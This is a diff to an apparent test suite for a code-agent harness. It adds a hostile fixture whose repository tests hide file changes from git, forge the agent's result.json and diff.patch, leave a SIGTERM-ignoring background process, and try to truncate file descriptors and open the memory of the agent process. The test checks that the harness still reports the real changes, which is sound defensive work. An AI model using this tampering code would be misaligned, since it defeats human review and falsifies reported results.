@@ -35,6 +35,49 @@ REPOSITORY = {
         b"    def test_add(self):\n        self.assertEqual(add(2, 2), 4)\n"
     ),
 }
+# What a repository may do while its tests run: it hides changes from whoever looks, leaves a process that makes more of
+# them and puts another result in the place of ours, and reaches for the memory and the files of the program around it.
+HIDES = b"""
+import glob, os, subprocess, sys
+LATER = '''
+import json, os, signal, time
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+while not os.path.exists("/work/out/result.json"):
+    time.sleep(0.0002)
+open("/work/repository/later.py", "w").write("later")
+told = json.load(open("/work/out/result.json"))
+told["changed"], told["diff"], told["answer"] = [], "nothing was changed", "forged"
+open("/work/out/.forged", "w").write(json.dumps(told))
+os.replace("/work/out/.forged", "/work/out/result.json")
+open("/work/out/diff.patch", "w").write("forged")
+'''
+
+def attempt(what):
+    try:
+        what()
+    except OSError:
+        pass
+
+def reach_for(pid):
+    for fd in os.listdir(f"/proc/{pid}/fd"):
+        open(f"/proc/{pid}/fd/{fd}", "r+b").truncate(0)
+
+if not os.path.exists("/tmp/once"):
+    open("/tmp/once", "w").close()
+    for store in glob.glob("/tmp/snapshots*"):
+        os.makedirs(store + "/info", exist_ok=True)
+        open(store + "/info/exclude", "w").write("hidden*")
+        places = ["git", "--git-dir=" + store, "--work-tree=/work/repository"]
+        subprocess.run([*places, "update-index", "--assume-unchanged", "config.py"], capture_output=True)
+    open("/work/repository/hidden.py", "w").write("hidden")
+    open("/work/repository/config.py", "w").write("TRUST = 'another'")
+    open("/work/out/diff.patch", "w").write("forged")
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        if b"code_agent.main" in open(f"/proc/{pid}/cmdline", "rb").read():
+            attempt(lambda: reach_for(pid))
+            attempt(lambda: open(f"/proc/{pid}/mem", "r+b").close() or open("/work/repository/reached", "w").close())
+    subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
+"""
 PROWL = b"""
 import os, re
 # In two parts, so that this does not find itself.
@@ -181,6 +224,20 @@ async def test_what_it_runs_finds_the_token_nowhere(agents: Agents, settled: Set
         assert token.partition(".")[0] not in text
     assert not re.search(rb"eyJ[A-Za-z0-9_-]{20,}\.eyJ", b"".join(ran.files.values()))
     assert PLACEHOLDER_KEY not in token
+    await settled(len(ran.egress.records))
+
+
+async def test_all_that_a_hostile_repository_changes_is_told_and_nothing_else(agents: Agents, settled: Settled) -> None:
+    files = {**REPOSITORY, "config.py": b"TRUST = 'one'", "test_sums.py": HIDES + REPOSITORY["test_sums.py"]}
+    ran = await agents.ran("claude_code", "mender", files=files)
+    result = result_of(ran)
+    assert result["answer"].startswith("The tests say"), result
+    assert {(one["status"], one["path"]) for one in result["changed"]} == {
+        ("M", "config.py"), ("A", "hidden.py"), ("M", "sums.py"),
+    }  # fmt: skip
+    assert "+TRUST = 'another'" in result["diff"]
+    assert ran.files["diff.patch"].decode() == result["diff"]
+    assert ran.files["diff.patch.other"] == b"forged"
     await settled(len(ran.egress.records))
 
 
